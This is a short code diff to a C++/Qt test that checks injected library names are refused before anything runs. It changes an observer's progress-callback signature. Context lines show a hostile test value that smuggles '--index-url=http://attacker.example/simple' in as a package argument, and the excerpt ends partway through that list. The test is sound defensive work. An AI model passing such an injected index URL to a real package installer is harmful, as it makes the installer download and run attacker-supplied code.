@@ -173,7 +173,7 @@ TEST_P(LibrariesTest, namesThatCouldInjectAreRefusedBeforeAnythingRuns)
     struct Observer final : RunObserver
     {
         int progress = 0;
-        void runProgress(const QString &, const QString &) override { ++progress; }
+        void runProgress(const QString &, const RunProgress &) override { ++progress; }
     } observer;
     const QList<std::pair<QString, QString>> hostile = {
         {"python", "--index-url=http://attacker.example/simple"},
